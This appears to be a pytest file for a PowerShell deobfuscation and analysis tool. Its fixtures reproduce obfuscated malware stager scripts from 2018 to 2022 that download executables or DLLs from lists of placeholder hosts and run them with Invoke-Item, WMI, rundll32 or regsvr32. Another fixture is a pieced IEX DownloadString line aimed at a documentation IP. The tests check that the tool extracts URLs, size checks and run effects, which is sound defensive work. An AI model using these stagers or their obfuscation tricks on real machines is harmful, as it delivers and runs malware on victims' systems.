"""Stagers by era: every address in its order, the file, the check of its size and what runs it."""

from __future__ import annotations

import pytest
from evaluate.powershell.psrun import run

A, B, C = "http://a.example.test/x", "https://b.example.test/y/", "http://c.example.test/z?i=1"

ERAS = {
    "2018": f"""$w=new-object net.webclient;$u='{A}@{B}@{C}'.Split('@');$n='371';$p=$env:temp+'\\'+$n+'.exe';
        foreach($i in $u){{try{{$w.DownloadFile($i,$p);Invoke-Item $p;break;}}catch{{}}}}""",
    "2019": f"""$n='371';$p=$env:userprofile+'\\'+$n+'.exe';$w=.('new-'+'ob'+'ject') NeT.wEB`ClI`ent;$u='{A}@{B}@{C}'."S`plit"('@');
        foreach($i in $u){{try{{$w."do`WnLo`AdF`ile"($i,$p);If ((.('G'+'e'+'t-Item') $p)."LE`NGTH" -ge 36306) {{
        [Diagnostics.Process]::"sT`Art"($p);break;$z='w'}}}}catch{{}}}}$q='x'""",
    "2020": f"""$u=('{A}*'+'{B}'+'*{C}')."s`PLIT"([char]42);[Net.ServicePointManager]::SecurityProtocol='tls12, tls11, tls';
        $d=$env:userprofile+'\\Ab\\';.('ni') $d -itemtype directory;$p=$d+'x.exe';
        foreach($i in $u){{try{{(&('new-object') nET.weBcLIEnt).downloadfile($i,$p);
        If((.('Get-Item') $p).length -ge 28000){{([wmiclass]'win32_Process').create($p);break}}}}catch{{}}}}""",
    "2020-12": f"""$s=']e1r[S';$sd='http'+'s';$u='{A}@{B}@{C}'.replace('http',$s);$l=($u.replace($s,'http')).split('@');
        $f=$env:temp+'\\q.dll';foreach($i in $l){{try{{(New-Object Net.WebClient).DownloadFile($i,$f);
        if((gi $f).length -ge 38000){{&('rundll'+'32') $f,'Control_'+'RunDLL';break}}}}catch{{}}}}""",
    "2021-11": f"""$strs="{A},{B},{C}".Split(",");foreach($st in $strs){{$r1=Get-Random;$r2=Get-Random;$tpth="C:\\ProgramData\\"+$r1+".dll";
        Invoke-WebRequest -Uri $st -OutFile $tpth;if(Test-Path $tpth){{$fp="C:\\Windows\\SysWow64\\rundll32.exe";$a=$tpth+",f"+$r2;
        Start-Process $fp -ArgumentList $a;break;}}}}""",
    "2022-05": f"""$ProgressPreference="SilentlyContinue";$links=("{A}","{B}","{C}");foreach ($u in $links) {{try {{
        IWR $u -OutFile $env:TEMP/aB.xYz;Regsvr32.exe $env:TEMP/aB.xYz;break}} catch {{ }}}}""",
}


@pytest.mark.parametrize("era", ERAS)
def test_all_addresses_in_their_order(era):
    out = run(ERAS[era])
    assert out.urls == [A, B, C]
    (listed,) = out.facts("powershell.url_list")[-1:]
    assert listed.value == "3"
    assert out.values("effect.run") or out.values("effect.open")
    assert not out.problems


@pytest.mark.parametrize(
    ("era", "separator", "size"),
    [("2018", "@", ""), ("2019", "@", "36306"), ("2020", "*", "28000"), ("2020-12", "@", "38000"), ("2021-11", ",", "")],
)
def test_separator_and_size_check_are_told(era, separator, size):
    listed = run(ERAS[era]).facts("powershell.url_list")[-1]
    assert listed.detail.get("separator", "") == separator
    assert listed.detail.get("size_check", "") == size


def test_where_the_file_goes():
    downloads = run(ERAS["2019"]).facts("effect.download")
    assert {fact.detail["path"] for fact in downloads} == {r"C:\Users\tanaka\371.exe"}
    assert run(ERAS["2019"]).values("effect.run") == [r"C:\Users\tanaka\371.exe"]


def test_a_pieced_script_of_2022():
    text = (
        "$c1='(New-Object Net.We';$c4='bClient).Downlo';$c3='adString(''http://192.0.2.1/fe.png'')';"
        "$JI=($c1,$c4,$c3 -Join '');I`E`X $JI|I`E`X"
    )
    out = run(text)
    assert out.urls == ["http://192.0.2.1/fe.png"]
    assert out.layers[0] == "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/fe.png')"


def test_a_script_that_was_made_lower_case_on_the_way_keeps_its_members() -> None:
    """A tick before n is a line break, before N it is N; no member's name holds a line break."""
    found = run('$w = new-object net.webclient; $w."do`wnl`oadfi`le"("http://a.example.test/x"."tostr`i`ng"(), "c:\\a.exe")')
    assert found.urls == ["http://a.example.test/x"]
